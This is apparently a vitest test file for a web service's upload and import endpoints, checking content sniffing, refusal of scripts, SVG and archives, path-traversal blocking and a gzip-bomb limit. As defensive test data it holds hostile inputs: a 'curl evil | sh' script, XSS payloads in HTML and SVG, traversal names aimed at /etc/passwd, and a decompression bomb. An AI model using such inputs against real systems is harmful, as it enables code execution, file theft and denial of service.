import { randomBytes } from 'node:crypto';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localBlobStore } from '../../src/blobs/localBlobStore.ts';
import { DomainError } from '../../src/domain/errors.ts';
import { acceptUpload } from '../../src/domain/media/acceptUpload.ts';
import { ihdr, isoFile, PNG_SIGNATURE, pngChunk, refusedFiles, samples } from '../setup/mediaSamples.ts';
import { sentimentProject, type TestApp, testApp } from '../setup/testApp.ts';

// Uploads are told by their bytes, never by what the client declares: archives, programs, scripts, HTML, SVG,
// files whose bytes are another format, and truncated or inconsistent media are refused with what they are; sizes
// are bounded, compressed imports included; stored files are named by hash, never by a path.

let t: TestApp;
let requester: string;
let projectId: string;
beforeAll(async () => {
  t = await testApp();
  requester = await t.signIn('requester');
  projectId = (await t.call('POST', '/api/projects', { cookie: requester, body: sentimentProject() })).json
    .id;
});
afterAll(() => t.close());

type Answer = {
  status: number;
  json: { error?: { code: string; message: string } } & Record<string, unknown>;
};

async function request(
  url: string,
  init: Omit<RequestInit, 'headers'> & { headers?: Record<string, string> },
): Promise<Answer> {
  const r = await t.app.request(`http://caravan.test${url}`, {
    ...init,
    headers: { host: 'caravan.test', cookie: requester, ...init.headers },
  });
  return { status: r.status, json: JSON.parse(await r.text()) };
}

const upload = (body: Uint8Array, type?: string, headers: Record<string, string> = {}) =>
  request('/api/blobs', {
    method: 'POST',
    body: body as Uint8Array<ArrayBuffer>,
    headers: {
      'content-type': 'application/octet-stream',
      ...(type ? { 'x-content-type': type } : {}),
      ...headers,
    },
  });

/** Sends an import file; `streamed` passes a body stream (which needs half duplex). */
const importFile = (body: BodyInit, headers: Record<string, string> = {}, streamed = false) =>
  request(`/api/projects/${projectId}/items?format=jsonl`, {
    method: 'POST',
    body,
    headers: { 'content-type': 'application/octet-stream', ...headers },
    ...(streamed ? ({ duplex: 'half' } as { duplex: 'half' }) : {}),
  });

function expectRefused(r: Answer, status: number, code: string, message: RegExp, what = '') {
  expect(r.status, `${what} ${JSON.stringify(r.json)}`).toBe(status);
  expect(r.json.error?.code, what).toBe(code);
  expect(r.json.error?.message, what).toMatch(message);
}

const cut = (b: Uint8Array, n: number) => b.subarray(0, n);

describe('POST /api/blobs: what a file is comes from its bytes', () => {
  it('stores well-formed files of every format, declared or told from their bytes', async () => {
    for (const [sample, declared, stored] of [
      [samples.png, 'image/png', 'image/png'],
      [samples.png, undefined, 'image/png'],
      [samples.jpeg, 'image/jpg', 'image/jpeg'],
      [samples.jpeg, undefined, 'image/jpeg'],
      [samples.gif, 'image/gif', 'image/gif'],
      [samples.wav, 'audio/x-wav', 'audio/wav'],
      [samples.mp3, undefined, 'audio/mpeg'],
      [samples.mp4, 'video/mp4', 'video/mp4'],
      [samples.mp4, 'video/quicktime', 'video/quicktime'],
      [samples.pdf, 'application/pdf', 'application/pdf'],
      [samples.text, 'text/plain; charset=utf-8', 'text/plain'],
      [samples.json, 'application/json', 'application/json'],
    ] as const) {
      const r = await upload(sample, declared);
      expect(r.status, `${stored}: ${JSON.stringify(r.json)}`).toBe(201);
      expect(r.json.contentType).toBe(stored);
    }
  });

  it('refuses HTML and scripts declared as an image', async () => {
    for (const html of [
      '<!DOCTYPE html><html><body>hi</body></html>',
      '\ufeff\n  <script>fetch("/api/me")</script>',
      '<!-- innocent --><html><script>alert(1)</script>',
    ])
      expectRefused(
        await upload(new TextEncoder().encode(html), 'image/png'),
        400,
        'VALIDATION_FAILED',
        /this file is an HTML page, which can carry script that would run on this site/,
      );
    expectRefused(
      await upload(new TextEncoder().encode('#!/bin/sh\ncurl evil | sh\n'), 'image/png'),
      400,
      'VALIDATION_FAILED',
      /archives and executables are not accepted: this file is a script/,
    );
  });

  it('refuses bytes of another format than the declared one, naming both', async () => {
    expectRefused(
      await upload(samples.gif, 'image/png'),
      400,
      'VALIDATION_FAILED',
      /declared image\/png but its bytes are a GIF image/,
    );
    expectRefused(
      await upload(samples.png, 'audio/mpeg'),
      400,
      'VALIDATION_FAILED',
      /declared audio\/mpeg but its bytes are a PNG image/,
    );
    expectRefused(
      await upload(new TextEncoder().encode('just some text'), 'image/jpeg'),
      400,
      'VALIDATION_FAILED',
      /declared image\/jpeg but its bytes are not that format/,
    );
    expectRefused(
      await upload(samples.png, 'text/plain'),
      400,
      'VALIDATION_FAILED',
      /declared text\/plain but its bytes are a PNG image/,
    );
  });

  it('refuses SVG, declared or not: it is a document that can run script', async () => {
    const svg = new TextEncoder().encode(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    );
    for (const declared of ['image/svg+xml', 'image/png', undefined])
      expectRefused(await upload(svg, declared), 400, 'VALIDATION_FAILED', /an SVG image.*convert it to PNG/);
  });

  it('refuses archives and executables, declared as anything', async () => {
    for (const [what, file] of refusedFiles)
      for (const declared of [undefined, 'image/png', 'application/pdf'])
        expectRefused(
          await upload(file, declared),
          400,
          'VALIDATION_FAILED',
          new RegExp(
            `^archives and executables are not accepted: this file is ${what.replace(/[()]/g, '\\$&')}`,
          ),
        );
  });

  it('refuses truncated and inconsistent media, saying what is wrong', async () => {
    const idat = pngChunk('IDAT', new Uint8Array([1, 2, 3]));
    const brokenSof = samples.jpeg.slice();
    brokenSof[brokenSof.indexOf(0xc0) + 3] = 7; // precision 7 does not exist
    const wavLongData = samples.wav.slice();
    wavLongData[40] = 0xff; // the data chunk claims 255 bytes; 4 are there
    for (const [label, file, declared, problem] of [
      [
        'PNG with no IHDR',
        Buffer.concat([Buffer.from(PNG_SIGNATURE), idat, pngChunk('IEND')]),
        'image/png',
        /first chunk is not a 13-byte IHDR/,
      ],
      [
        'PNG with a wrong IHDR checksum',
        Buffer.concat([Buffer.from(PNG_SIGNATURE), pngChunk('IHDR', ihdr, 1234), idat]),
        'image/png',
        /IHDR checksum is wrong/,
      ],
      ['PNG cut after its header', cut(samples.png, 40), 'image/png', /truncated/],
      ['PNG signature only', cut(samples.png, 8), undefined, /truncated/],
      ['JPEG cut inside its headers', cut(samples.jpeg, 12), 'image/jpeg', /truncated/],
      ['JPEG with an impossible frame', brokenSof, 'image/jpeg', /frame header gives an impossible size/],
      [
        'GIF cut short',
        cut(samples.gif, samples.gif.length - 3),
        'image/gif',
        /does not end with the GIF trailer/,
      ],
      [
        'WAV whose data runs past the end',
        wavLongData,
        'audio/wav',
        /data chunk claims 255 bytes, 4 are there/,
      ],
      [
        'MP4 with only a file type box',
        isoFile([['ftyp', new Uint8Array(12)]]),
        'video/mp4',
        /no movie header/,
      ],
      [
        'MP4 cut inside a box',
        cut(samples.mp4, samples.mp4.length - 5),
        'video/mp4',
        /moov box runs past the end/,
      ],
      ['MP3 that is only an ID3 tag', cut(samples.mp3, 10), 'audio/mpeg', /ends inside its ID3 tag/],
      ['PDF cut short', cut(samples.pdf, 30), 'application/pdf', /does not end with %%EOF/],
    ] as const)
      expectRefused(
        await upload(new Uint8Array(file), declared),
        400,
        'VALIDATION_FAILED',
        new RegExp(`looks like .* but is malformed: .*${problem.source}`),
        label,
      );
  });

  it('refuses every cut-short copy of a well-formed file, and never fails on one', async () => {
    let refused = 0;
    for (const sample of [samples.png, samples.gif, samples.wav, samples.mp4, samples.pdf])
      for (let n = 1; n < sample.length; n++) {
        const r = await upload(cut(sample, n));
        expect(r.status, `${n} bytes: ${JSON.stringify(r.json)}`).toBe(400);
        refused++;
      }
    expect(refused).toBeGreaterThan(300);
  });

  it('answers corrupted and random bytes of every format with a refusal or a type, never a crash', () => {
    // Pure checks, so fast-check can run many cases: flip, insert and cut bytes of each sample, or draw random ones.
    const corrupted = fc
      .tuple(
        fc.constantFrom(...Object.values(samples)),
        fc.array(fc.tuple(fc.nat(), fc.integer({ min: 0, max: 255 })), { maxLength: 4 }),
        fc.nat(),
      )
      .map(([sample, flips, cutAt]) => {
        const b = sample.slice(0, 1 + (cutAt % sample.length));
        for (const [at, value] of flips) b[at % b.length] = value;
        return b;
      });
    fc.assert(
      fc.property(
        fc.oneof(corrupted, fc.uint8Array({ maxLength: 600 })),
        fc.constantFrom(undefined, 'image/png', 'video/mp4', 'audio/wav', 'text/plain'),
        (bytes, declared) => {
          try {
            expect(typeof acceptUpload(bytes, declared)).toBe('string');
          } catch (error) {
            expect(error).toBeInstanceOf(DomainError);
            expect((error as DomainError).code).toBe('VALIDATION_FAILED');
          }
        },
      ),
      { numRuns: 3000, seed: 7 },
    );
  });

  it('refuses types it cannot check, text that is not UTF-8 and JSON that does not parse', async () => {
    expectRefused(
      await upload(samples.png, 'image/tiff'),
      400,
      'VALIDATION_FAILED',
      /image\/tiff files are not accepted/,
    );
    expectRefused(
      await upload(new TextEncoder().encode('hello'), undefined),
      400,
      'VALIDATION_FAILED',
      /cannot be told from its bytes.*X-Content-Type/,
    );
    expectRefused(
      await upload(new Uint8Array([0x68, 0xe9, 0x6c]), 'text/plain'),
      400,
      'VALIDATION_FAILED',
      /declared text\/plain but is not UTF-8 text/,
    );
    expectRefused(
      await upload(new TextEncoder().encode('{"a":'), 'application/json'),
      400,
      'VALIDATION_FAILED',
      /declared application\/json but is not valid JSON/,
    );
    expectRefused(await upload(new Uint8Array()), 400, 'VALIDATION_FAILED', /the file is empty/);
  });

  it('refuses a file over the size limit with 413 before reading it', async () => {
    expectRefused(
      await upload(samples.png, 'image/png', { 'content-length': String(200 * 1024 * 1024 + 1) }),
      413,
      'PAYLOAD_TOO_LARGE',
      /the file is too large: files may be at most 200 MiB/,
    );
  });
});

describe('GET /blobs/:sha256: a file is named by its hash, never by a path', () => {
  let secret: string;
  beforeAll(async () => {
    // Where a traversal from <data dir>/blobs would land: the temporary directory holding every data dir.
    secret = `caravan-secret-${randomBytes(6).toString('hex')}`;
    await fs.writeFile(path.join(os.tmpdir(), secret), 'TOP SECRET');
    await fs.writeFile(path.join(os.tmpdir(), `${secret}.type`), 'text/plain');
  });
  afterAll(async () => {
    await fs.rm(path.join(os.tmpdir(), secret), { force: true });
    await fs.rm(path.join(os.tmpdir(), `${secret}.type`), { force: true });
  });

  it('refuses traversal-like names with a 400 and reads nothing outside the store', async () => {
    const names = [
      ...[1, 2, 3, 4, 5].map((n) => encodeURIComponent(`${'../'.repeat(n)}${secret}`)),
      encodeURIComponent(path.join(os.tmpdir(), secret)),
      encodeURIComponent(`..\\..\\${secret}`),
      `${'0'.repeat(64)}%00`,
      `${'0'.repeat(63)}%2F`,
      'A'.repeat(64),
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    ];
    for (const name of names) {
      const r = await t.app.request(`http://caravan.test/blobs/${name}`);
      const text = await r.text();
      expect(r.status, name).toBe(400);
      expect(JSON.parse(text).error.message).toMatch(
        /named by the sha256 of their bytes: 64 lowercase hex digits/,
      );
      expect(text).not.toContain('TOP SECRET');
    }
  });

  it('has a store that finds nothing under a name that is not a sha256, whatever lies at that path', async () => {
    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'caravan-blobs-'));
    try {
      const store = localBlobStore(path.join(dir, 'blobs'));
      // A naive join of `<dir>/blobs/<2>/<2>/<name>` for this name would reach this file.
      await fs.writeFile(path.join(dir, 'leak'), 'TOP SECRET');
      await fs.writeFile(path.join(dir, 'leak.type'), 'text/plain');
      for (const name of ['../../../leak', '/../../../leak', `${dir}/leak`, '..%2F..%2F..%2Fleak'])
        expect(await store.get(name)).toBeNull();
    } finally {
      await fs.rm(dir, { recursive: true, force: true });
    }
  });
});

describe('POST /api/projects/:id/items: text files only, compressed or not, within the limit', () => {
  const lines = (n: number, tag: string) =>
    Array.from({ length: n }, (_, i) => JSON.stringify({ id: `${tag}${i}`, text: `item ${i}` })).join('\n');

  it('imports a gzip-compressed file sent with Content-Encoding: gzip', async () => {
    const r = await importFile(new Uint8Array(gzipSync(lines(3, 'gz'))), { 'content-encoding': 'gzip' });
    expect(r.status, JSON.stringify(r.json)).toBe(200);
    expect(r.json.imported).toBe(3);
  });

  it('refuses a gzip bomb once it inflates past 100 times its size, without reading all of it', async () => {
    // 1024 gzip members of 1 MiB of zeros each (gzip readers take concatenated members): 1 MiB that inflates to
    // 1 GiB, sent in 4 KiB pieces as a client would stream it.
    const bomb = Buffer.concat(Array(1024).fill(gzipSync(Buffer.alloc(1024 * 1024))));
    let sent = 0;
    const body = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= bomb.length) return controller.close();
        controller.enqueue(new Uint8Array(bomb.subarray(sent, sent + 4096)));
        sent += 4096;
      },
    });
    const r = await importFile(
      body,
      { 'content-encoding': 'gzip', 'content-length': String(bomb.length) },
      true,
    );
    expectRefused(
      r,
      413,
      'PAYLOAD_TOO_LARGE',
      /the decompressed file is too large: it inflates more than 100 times its compressed size/,
    );
    expect(sent, 'the server stopped reading early').toBeLessThan(bomb.length / 4);
  });

  it('refuses a body that says gzip but is not, or is cut short', async () => {
    const whole = new Uint8Array(gzipSync(lines(50, 'cut')));
    for (const body of [new TextEncoder().encode(lines(2, 'plain')), whole.subarray(0, whole.length - 20)])
      expectRefused(
        await importFile(body, { 'content-encoding': 'gzip' }),
        400,
        'VALIDATION_FAILED',
        /says Content-Encoding: gzip but is not whole gzip data/,
      );
  });

  it('refuses encodings it does not read', async () => {
    expectRefused(
      await importFile(lines(1, 'br'), { 'content-encoding': 'br' }),
      400,
      'VALIDATION_FAILED',
      /Content-Encoding br is not supported here/,
    );
  });

  it('refuses archives, executables and media sent as an import file, saying what they are', async () => {
    for (const [what, file] of refusedFiles) {
      const r = await importFile(file as Uint8Array<ArrayBuffer>);
      expectRefused(
        r,
        422,
        'IMPORT_INVALID',
        new RegExp(`^this file is ${what.replace(/[()]/g, '\\$&')}, not an import file`),
      );
      if (what === 'a gzip archive') expect(r.json.error?.message).toMatch(/Content-Encoding: gzip/);
    }
    expectRefused(
      await importFile(samples.png as Uint8Array<ArrayBuffer>),
      422,
      'IMPORT_INVALID',
      /this file is a PNG image, not an import file: upload media with POST \/api\/blobs/,
    );
    expectRefused(
      await importFile(lines(1, 'img'), { 'content-type': 'image/png' }),
      422,
      'IMPORT_INVALID',
      /an import file is JSONL, CSV or Label Studio JSON text, not image\/png/,
    );
  });

  it('refuses a file over the size limit with 413 before reading it', async () => {
    expectRefused(
      await importFile(lines(1, 'big'), { 'content-length': String(512 * 1024 * 1024 + 1) }),
      413,
      'PAYLOAD_TOO_LARGE',
      /the file is too large: an import file may be at most 512 MiB; split it/,
    );
  });
});
